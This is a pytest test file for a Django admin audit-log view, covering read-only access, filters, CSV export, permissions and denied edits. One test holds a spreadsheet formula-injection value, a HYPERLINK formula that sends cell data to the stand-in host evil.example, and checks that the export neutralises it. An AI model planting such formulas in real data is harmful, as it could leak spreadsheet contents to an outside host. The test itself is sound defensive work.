from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta
from urllib.parse import quote

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import AsyncClient
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from audit.models import AuditLog, Outcome
from tests.audit.factories import record, record_days_ago
from tests.conftest import make_user

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:audit_auditlog_changelist")


@pytest.fixture
def log(operator, auditor):
    """A small log: olivia starts and cancels jobs, arthur exports, the system fails a job."""
    correlation = uuid.uuid4()
    return {
        "old_start": record_days_ago(30, action="job.start", actor=operator, source="api", target="import #1"),
        "start": record_days_ago(
            2, action="job.start", actor=operator, source="api", target="import #2", correlation_id=correlation
        ),
        "cancel": record_days_ago(1, action="job.cancel", actor=operator, source="admin", target="import #2"),
        "failed": record_days_ago(1, action="job.failed", source="system", target="import #3", outcome=Outcome.FAILURE),
        "export": record(action="token.create", actor=auditor, source="cli", target="arthur", details={"token": "abc"}),
        "correlation": correlation,
    }


def listed(response) -> list[int]:
    # force_login writes an auth.login row of its own.
    return [row.pk for row in response.context["cl"].result_list if row.action != "auth.login"]


class AuditorChangelistTests:
    def test_sees_every_row_newest_first_without_edit_controls(self, client, auditor, log):
        client.force_login(auditor)
        response = client.get(CHANGELIST)
        assert response.status_code == 200
        assert listed(response) == [log[k].pk for k in ("export", "failed", "cancel", "start", "old_start")]
        page = response.content.decode()
        assert "addlink" not in page and "delete_selected" not in page
        assert "Export selected/filtered rows as CSV" in page

    @pytest.mark.parametrize(
        ("query", "expected"),
        [
            ("actor={olivia}", ["cancel", "start", "old_start"]),
            ("actor=system", ["failed"]),
            ("action=job.start", ["start", "old_start"]),
            ("source=api", ["start", "old_start"]),
            ("outcome=failure", ["failed"]),
            ("actor={olivia}&action=job.start&created_at__gte={week_ago}", ["start"]),
            ("q=arthur", ["export"]),
            ("q=import+%232", ["cancel", "start"]),
            ("q={correlation}", ["start"]),
        ],
    )
    def test_filters_and_search(self, client, auditor, operator, log, query, expected):
        client.force_login(auditor)
        # What the "Past 7 days" choice of the date filter puts in the URL.
        week_ago = quote(
            str(timezone.localtime().replace(hour=0, minute=0, second=0, microsecond=0) - timedelta(days=7))
        )
        url = f"{CHANGELIST}?" + query.format(olivia=operator.pk, week_ago=week_ago, correlation=log["correlation"])
        response = client.get(url)
        assert response.status_code == 200
        assert listed(response) == [log[k].pk for k in expected]

    def test_filter_choices_list_actors_and_actions_that_have_rows(self, client, auditor, log):
        client.force_login(auditor)
        page = client.get(CHANGELIST).content.decode()
        assert "olivia" in page and "system (no user)" in page
        assert "?action=job.cancel" in page and "?action=token.create" in page

    def test_date_hierarchy_drills_down(self, client, auditor, log):
        client.force_login(auditor)
        year = log["start"].created_at.year
        response = client.get(f"{CHANGELIST}?created_at__year={year}")
        assert response.status_code == 200
        assert log["start"].pk in listed(response)
        page = response.content.decode()
        assert "created_at__month=" in page and f"created_at__year={year}" in page

    def test_never_counts_or_scans_the_whole_table(self, client, auditor, log):
        client.force_login(auditor)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(CHANGELIST).status_code == 200
        audit_queries = [q["sql"] for q in queries if "audit_auditlog" in q["sql"]]
        counts = [sql for sql in audit_queries if "COUNT(" in sql.upper()]
        assert counts and all("LIMIT" in sql.upper() for sql in counts)
        assert not [sql for sql in audit_queries if "DISTINCT" in sql.upper()]

    def test_detail_is_readable_and_read_only(self, client, auditor, log):
        client.force_login(auditor)
        response = client.get(reverse("admin:audit_auditlog_change", args=[log["export"].pk]))
        page = response.content.decode()
        assert response.status_code == 200
        assert '<pre class="audit-details">{\n  &quot;token&quot;: &quot;abc&quot;\n}</pre>' in page
        assert 'name="_save"' not in page and "deletelink" not in page
        assert "arthur (user #" in page


class AuditorExportTests:
    def export(self, client, query: str = "", *, selected: list[int], select_across: bool):
        return client.post(
            f"{CHANGELIST}?{query}",
            {
                "action": "export_csv",
                "index": "0",
                "select_across": "1" if select_across else "0",
                "_selected_action": selected,
            },
        )

    def test_exports_the_filtered_rows_as_csv_and_is_audited(self, client, auditor, log):
        client.force_login(auditor)
        response = self.export(client, "action=job.start", selected=[log["start"].pk], select_across=True)
        assert response.status_code == 200 and response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith('attachment; filename="audit-')
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert [int(row["id"]) for row in rows] == [log["old_start"].pk, log["start"].pk]
        assert list(rows[0]) == [
            "id",
            "created_at",
            "actor_id",
            "actor_username",
            "source",
            "action",
            "target",
            "outcome",
            "details",
            "ip",
            "user_agent",
            "correlation_id",
            "prev_hash",
            "hash",
        ]
        exported = AuditLog.objects.get(action="audit.export")
        assert exported.actor_username == "arthur" and exported.source == "admin"
        assert exported.details["filters"] == {"action": "job.start"} and exported.details["select_across"] is True

    def test_exports_only_the_selected_rows(self, client, auditor, log):
        client.force_login(auditor)
        response = self.export(client, selected=[log["cancel"].pk, log["failed"].pk], select_across=False)
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert [int(row["id"]) for row in rows] == [log["cancel"].pk, log["failed"].pk]

    def test_streams_under_asgi_without_reading_everything_first(self, auditor, log):
        client = AsyncClient()
        client.force_login(auditor)
        data = {"action": "export_csv", "index": "0", "select_across": "1", "_selected_action": [log["start"].pk]}
        response = async_to_sync(client.post)(CHANGELIST, data)
        assert response.status_code == 200 and response.is_async  # served chunk by chunk, not buffered

        async def body() -> bytes:
            return b"".join([chunk async for chunk in response])

        rows = list(csv.DictReader(io.StringIO(async_to_sync(body)().decode())))
        assert len(rows) == 6  # the five rows of the log and the login

    def test_a_formula_typed_as_a_login_name_is_exported_as_text(self, client, auditor):
        formula = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
        client.post(reverse("admin:login"), {"username": formula, "password": "wrong"})
        failed = AuditLog.objects.get(action="auth.login_failed")
        assert failed.target == formula  # the log itself keeps exactly what was typed
        client.force_login(auditor)
        response = self.export(client, selected=[failed.pk], select_across=False)
        (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
        assert row["target"] == "'" + formula  # a spreadsheet shows it as text instead of running it

    def test_needs_the_export_permission(self, client, log):
        viewer = make_user("vera")
        viewer.user_permissions.add(Permission.objects.get(codename="view_auditlog"))
        client.force_login(viewer)
        assert "export_csv" not in client.get(CHANGELIST).content.decode()
        response = self.export(client, selected=[log["start"].pk], select_across=True)
        assert not getattr(response, "streaming", False)
        assert not AuditLog.objects.filter(action="audit.export").exists()


class RefusalTests:
    def denied(self) -> list[tuple[str, str, str]]:
        return list(
            AuditLog.objects.filter(action="permission.denied")
            .order_by("id")
            .values_list("actor_username", "target", "details__permission")
        )

    def test_auditor_gets_403_on_delete_and_change_and_it_is_audited(self, client, auditor, log):
        client.force_login(auditor)
        row = log["start"]
        delete_url = reverse("admin:audit_auditlog_delete", args=[row.pk])
        change_url = reverse("admin:audit_auditlog_change", args=[row.pk])
        assert client.get(delete_url).status_code == 403
        assert client.post(delete_url, {"post": "yes"}).status_code == 403
        assert client.post(change_url, {"action": "forged"}).status_code == 403
        assert client.get(reverse("admin:audit_auditlog_add")).status_code == 403
        assert self.denied() == [
            ("arthur", delete_url, "audit.delete_auditlog"),
            ("arthur", delete_url, "audit.delete_auditlog"),
            ("arthur", change_url, "audit.change_auditlog"),
            ("arthur", reverse("admin:audit_auditlog_add"), "audit.add_auditlog"),
        ]
        assert AuditLog.objects.get(pk=row.pk).action == "job.start"

    def test_operator_gets_403_on_the_changelist(self, client, operator, log):
        client.force_login(operator)
        assert client.get(CHANGELIST).status_code == 403
        assert self.denied() == [("olivia", CHANGELIST, "audit.view_auditlog")]

    def test_superuser_can_read_but_not_change_or_delete(self, client, superuser, log):
        client.force_login(superuser)
        row = log["start"]
        assert client.get(CHANGELIST).status_code == 200
        assert client.get(reverse("admin:audit_auditlog_change", args=[row.pk])).status_code == 200
        assert client.post(reverse("admin:audit_auditlog_change", args=[row.pk]), {"action": "x"}).status_code == 403
        assert client.post(reverse("admin:audit_auditlog_delete", args=[row.pk]), {"post": "yes"}).status_code == 403
        response = client.post(
            CHANGELIST, {"action": "delete_selected", "index": "0", "_selected_action": [row.pk], "post": "yes"}
        )
        assert (response.status_code, response["Location"]) == (302, CHANGELIST)  # "No action selected."
        assert AuditLog.objects.filter(pk=row.pk, action="job.start").exists()
